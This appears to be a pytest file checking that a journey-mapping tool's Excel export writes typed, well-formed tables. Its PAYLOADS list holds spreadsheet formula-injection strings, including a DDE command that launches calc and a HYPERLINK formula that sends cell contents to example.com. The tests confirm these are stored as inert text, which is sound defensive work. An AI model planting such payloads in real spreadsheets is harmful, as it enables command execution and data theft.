"""The Excel workbook, read back with openpyxl on its own: real tables, frozen headers, typed
cells, and never a formula or an error value, whatever the user typed (R10)."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.workbook.workbook import Workbook

from journeymapper.export.common import ExportError
from journeymapper.export.workbook import write_workbook
from journeymapper.export.workbook_schema import (
    CELL_LIMIT,
    SHEETS,
    STEPS_CURVE_FIELD,
    TOUCHPOINTS,
)
from journeymapper.model.analysis import analyze, run_analysis
from journeymapper.model.analysis.chain import handover_shortcomings
from journeymapper.model.analysis.context import AnalysisParameters, Context
from journeymapper.model.elements import (
    Channel,
    CustomerStep,
    Department,
    EmotionCurve,
    JourneyMap,
    Metric,
    Phase,
    ProcessStep,
    Touchpoint,
)
from journeymapper.model.storage import load

from ..conftest import SAMPLE_MAPS

SAMPLES = sorted(SAMPLE_MAPS.glob("*.cjm"))
# Text that spreadsheet programs would otherwise run as a formula or show as an error.
PAYLOADS = (
    "=1+1",
    "+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://example.com/?leak="&A1,"Click me")',
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "=",
    "-",
    " =1+1",
)


def sample(name: str) -> JourneyMap:
    return load(SAMPLE_MAPS / name).journey


def export(journey: JourneyMap, tmp_path: Path) -> tuple[Path, list[str]]:
    out = tmp_path / "map.xlsx"
    report = write_workbook(journey, out)
    assert report.path == out
    return out, report.warnings


def records(book: Workbook, sheet: str) -> list[dict[str, object]]:
    rows = list(book[sheet].iter_rows(values_only=True))
    header = [str(value) for value in rows[0]]
    width = len(header)
    # A streamed sheet may end a row at its last filled cell: pad it to the header.
    padded = [tuple(row) + (None,) * (width - len(row)) for row in rows[1:]]
    return [dict(zip(header, row, strict=True)) for row in padded if any(row)]


def sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {
            name: archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        }


def assert_no_formula_or_error(path: Path) -> None:
    for name, xml in sheet_xml(path).items():
        assert not re.search(r"<f[ >/]", xml), f"a formula in {name}"
        assert 't="e"' not in xml, f"an error value in {name}"


def payload_map() -> JourneyMap:
    """A small map with an injection payload in every kind of text the workbook holds."""
    steps = [CustomerStep(id=f"step-{n}", title=text) for n, text in enumerate(PAYLOADS)]
    return JourneyMap(
        title="=1+1",
        scenario="@SUM(A1)",
        phases=[Phase(id="phase-1", title="-2+3", description="#N/A", steps=steps)],
        curves=[EmotionCurve(id="curve-1", name="#REF!", points={"step-0": 2.0})],
        channels=[Channel(id="ch-1", name="+cmd|'/C calc'!A0")],
        departments=[Department(id="dept-1", name='=HYPERLINK("x")')],
        touchpoints=[
            Touchpoint(id=f"tp-{n}", title=text, steps=[f"step-{n}"], channel="ch-1", note=text)
            for n, text in enumerate(PAYLOADS)
        ],
        process_steps=[ProcessStep(id="proc-1", title="=1+1", department="dept-1")],
        metrics=[Metric(id="metric-1", name="#N/A", attached_to="tp-0", unit="@", value=1.5)],
    )


@pytest.mark.parametrize("path", SAMPLES, ids=lambda p: p.stem)
def test_every_sheet_is_a_real_excel_table_with_a_frozen_header(path: Path, tmp_path: Path) -> None:
    out, warnings = export(load(path).journey, tmp_path)
    assert warnings == []
    book = load_workbook(out)
    assert book.sheetnames == [sheet.name for sheet in SHEETS]
    for sheet in SHEETS:
        ws = book[sheet.name]
        assert len(ws.tables) == 1, sheet.name
        table = next(iter(ws.tables.values()))
        assert table.displayName == sheet.table
        assert table.ref == f"A1:{get_column_letter(len(sheet.columns))}{max(2, ws.max_row)}"
        header = [cell.value for cell in ws[1]]
        assert header == [column.name for column in table.tableColumns] == list(sheet.headers)
        assert table.autoFilter is not None and table.autoFilter.ref == table.ref  # filter buttons
        assert ws.freeze_panes == "A2"
        for column in sheet.columns:
            letter = get_column_letter(sheet.columns.index(column) + 1)
            width = ws.column_dimensions[letter].width
            assert len(column.header) < width <= 60, (sheet.name, column.header)
        assert ws.sheet_state == ("hidden" if sheet.hidden else "visible")


@pytest.mark.parametrize("path", SAMPLES, ids=lambda p: p.stem)
def test_numbers_and_flags_are_typed_cells_not_text(path: Path, tmp_path: Path) -> None:
    out, _ = export(load(path).journey, tmp_path)
    book = load_workbook(out, read_only=True)
    seen = {"number": 0, "integer": 0, "boolean": 0}
    for sheet in SHEETS:
        for record in records(book, sheet.name):
            for column in sheet.columns:
                value = record[column.header]
                if value is None or column.type not in seen:
                    continue
                seen[column.type] += 1
                if column.type == "boolean":
                    assert isinstance(value, bool), (sheet.name, column.header, value)
                else:
                    assert isinstance(value, int | float), (sheet.name, column.header, value)
                    assert not isinstance(value, bool)
    assert all(seen.values()), seen
    assert_no_formula_or_error(out)


def test_one_touchpoint_row_holds_all_its_attributes(tmp_path: Path) -> None:
    journey = sample("webshop_order.cjm")
    out, _ = export(journey, tmp_path)
    rows = {r["Id"]: r for r in records(load_workbook(out, read_only=True), TOUCHPOINTS.name)}
    assert list(rows) == [t.id for t in journey.touchpoints]
    curve = journey.curves[0].points
    steps = {s.id: s for s in journey.steps()}
    phase_of = {s.id: p.title for p in journey.phases for s in p.steps}
    for touchpoint in journey.touchpoints:
        row = rows[touchpoint.id]
        assert row["Touchpoint"] == touchpoint.title
        assert row["Kind"] == touchpoint.kind.value
        assert row["Customer steps"] == "\n".join(steps[s].title for s in touchpoint.steps)
        assert row["Phase"] == "\n".join(dict.fromkeys(phase_of[s] for s in touchpoint.steps))
        channel = next(c for c in journey.channels if c.id == touchpoint.channel)
        assert (row["Channel"], row["Channel id"]) == (channel.name, channel.id)
        assert row["Emotion"] == curve.get(touchpoint.steps[0])
        assert isinstance(row["Moment of Truth"], bool)
    with_process = [r for r in rows.values() if r["Process steps"]]
    assert with_process, "some touchpoint shows the process steps behind it"


def test_findings_sheet_and_touchpoint_findings_match_the_analysis(tmp_path: Path) -> None:
    journey = sample("b2b_premium_supplier.cjm")
    findings = analyze(journey)
    out, _ = export(journey, tmp_path)
    book = load_workbook(out, read_only=True)
    rows = records(book, "Findings")
    assert [r["Message"] for r in rows] == [f.message for f in findings]
    assert [r["Element ids"] for r in rows] == ["\n".join(f.elements) for f in findings]
    assert {r["Severity"] for r in rows} <= {"info", "warning", "problem"}
    ownerless = [t for t in journey.touchpoints if t.owner is None]
    assert ownerless
    touchpoints = {r["Id"]: r for r in records(book, TOUCHPOINTS.name)}
    for touchpoint in ownerless:
        row = touchpoints[touchpoint.id]
        assert row["Owner"] is None
        assert "no owning department" in str(row["Findings"])


def test_handovers_show_departments_agreement_wait_and_gap(tmp_path: Path) -> None:
    journey = sample("webshop_order.cjm")
    out, _ = export(journey, tmp_path)
    rows = {r["Id"]: r for r in records(load_workbook(out, read_only=True), "Handovers")}
    assert list(rows) == [f.id for f in journey.flows]
    department = {p.id: p.department for p in journey.process_steps}
    names = {d.id: d.name for d in journey.departments}
    gaps = 0
    for flow in journey.flows:
        row = rows[flow.id]
        assert row["From department"] == names[department[flow.source]]
        assert row["To department"] == names[department[flow.target]]
        across = department[flow.source] != department[flow.target]
        assert row["Across departments"] is across
        assert row["Agreement"] is (flow.agreement is not None)
        if flow.measured_wait is not None:
            assert row["Measured wait"] == flow.measured_wait.value
        if across:
            serious, minor = handover_shortcomings(flow)
            assert row["Gap"] is bool(serious or minor)
            assert (row["Gap reason"] or "") == "; ".join(serious + minor)
            gaps += bool(serious or minor)
        else:
            assert row["Gap"] is None
    assert gaps, "the webshop sample has handovers with gaps"


def test_injection_payloads_are_written_as_plain_text(tmp_path: Path) -> None:
    out, warnings = export(payload_map(), tmp_path)
    assert warnings == []
    assert_no_formula_or_error(out)
    book = load_workbook(out)
    ws = book[TOUCHPOINTS.name]
    titles = [ws.cell(row, 5) for row in range(2, 2 + len(PAYLOADS))]
    notes = [ws.cell(row, TOUCHPOINTS.headers.index("Note") + 1) for row in range(2, 13)]
    for cell, note, payload in zip(titles, notes, PAYLOADS, strict=True):
        assert cell.value == payload and note.value == payload
        assert cell.data_type == "s"
        assert cell.quotePrefix is payload.startswith(("=", "+", "-", "@")), payload
    assert book["Channels"]["C2"].value == "+cmd|'/C calc'!A0"
    assert book["Map"]["B2"].value == "=1+1"


def test_control_characters_are_removed_and_reported(tmp_path: Path) -> None:
    journey = payload_map()
    journey.touchpoints[0].title = "bell\x07 and \x00null"
    journey.phases[0].steps[1].pain_points = ["ok", "form\x0cfeed"]
    out, warnings = export(journey, tmp_path)
    assert_no_formula_or_error(out)
    book = load_workbook(out, read_only=True)
    assert records(book, TOUCHPOINTS.name)[0]["Touchpoint"] == "bell and null"
    assert records(book, "Steps")[1]["Pain points"] == "ok\nformfeed"
    assert any("Touchpoints, column Touchpoint, row 2" in w for w in warnings), warnings
    assert any("Steps, column Pain points, row 3" in w for w in warnings), warnings
    assert all("control characters" in w for w in warnings)


def test_text_longer_than_a_cell_is_cut_and_reported_never_silently(tmp_path: Path) -> None:
    journey = payload_map()
    journey.touchpoints[2].note = "ab" * 20_000  # past the model's own limit, as a bad file might
    out, warnings = export(journey, tmp_path)
    assert len(warnings) == 1
    assert "Touchpoints, column Note, row 4" in warnings[0]
    assert "40,000" in warnings[0] and f"{CELL_LIMIT:,}" in warnings[0]
    note = records(load_workbook(out, read_only=True), TOUCHPOINTS.name)[2]["Note"]
    assert note == ("ab" * 20_000)[:CELL_LIMIT]
    assert_no_formula_or_error(out)


def test_numbers_keep_every_digit(tmp_path: Path) -> None:
    journey = payload_map()
    values = [0.1 + 0.2, 1e-300, 123456789.12345679, -0.0, 2.5e300]
    journey.metrics = [
        Metric(id=f"metric-{n}", name="m", attached_to="tp-0", value=v, target=v / 3)
        for n, v in enumerate(values)
    ]
    out, _ = export(journey, tmp_path)
    rows = records(load_workbook(out, read_only=True), "Metrics and initiatives")
    assert [r["Value"] for r in rows] == values
    assert [r["Target"] for r in rows] == [v / 3 for v in values]


def test_progress_goes_up_to_one(tmp_path: Path) -> None:
    shares: list[float] = []
    write_workbook(sample("webshop_order.cjm"), tmp_path / "map.xlsx", progress=shares.append)
    assert shares == sorted(shares) and shares[-1] == 1.0 and len(shares) > 3


def test_a_missing_folder_is_an_export_error_and_writes_nothing(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="is not a folder"):
        write_workbook(payload_map(), tmp_path / "no such folder" / "map.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_an_existing_file_is_replaced_whole(tmp_path: Path) -> None:
    out = tmp_path / "map.xlsx"
    out.write_bytes(b"an older export")
    write_workbook(sample("webshop_order.cjm"), out)
    assert zipfile.is_zipfile(out)
    assert [p.name for p in tmp_path.iterdir()] == ["map.xlsx"]  # no temporary left behind


def test_the_map_sheet_names_the_curve_of_the_steps_emotions(tmp_path: Path) -> None:
    journey = load(SAMPLE_MAPS / "telecom_contact_centre.cjm").journey
    out, _ = export(journey, tmp_path)
    book = load_workbook(out, read_only=True)
    fields = {r["Field"]: r["Value"] for r in records(book, "Map")}
    assert fields[STEPS_CURVE_FIELD] == journey.curves[0].id
    steps = records(book, "Steps")
    assert {r["Id"]: r["Emotion"] for r in steps if r["Emotion"] is not None} == dict(
        journey.curves[0].points
    )
    points = records(book, "Curve points")
    assert {r["Curve id"] for r in points} == {c.id for c in journey.curves[1:]}


def _counting_context_builds(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Count the analysis passes over the map: each one builds a Context."""
    calls: list[int] = []
    build = Context.build

    def counted(journey: JourneyMap, parameters: AnalysisParameters) -> Context:
        calls.append(1)
        return build(journey, parameters)

    monkeypatch.setattr(Context, "build", counted)
    return calls


def test_an_export_analyses_the_map_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    calls = _counting_context_builds(monkeypatch)
    write_workbook(sample("b2b_premium_supplier.cjm"), tmp_path / "map.xlsx")
    assert len(calls) == 1


def test_an_export_uses_the_analysis_it_is_given(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    journey = sample("b2b_premium_supplier.cjm")
    analysis = run_analysis(journey)
    calls = _counting_context_builds(monkeypatch)
    out = tmp_path / "map.xlsx"
    write_workbook(journey, out, analysis=analysis)
    assert calls == []
    rows = records(load_workbook(out, read_only=True), "Findings")
    assert [r["Message"] for r in rows] == [f.message for f in analysis.findings]


def test_a_blank_title_is_shown_as_the_id_where_the_element_is_named(tmp_path: Path) -> None:
    journey = sample("webshop_order.cjm")
    channel = journey.channels[0]
    channel.name = ""
    out, _ = export(journey, tmp_path)
    rows = records(load_workbook(out, read_only=True), TOUCHPOINTS.name)
    assert {r["Channel"] for r in rows if r["Channel id"] == channel.id} == {channel.id}
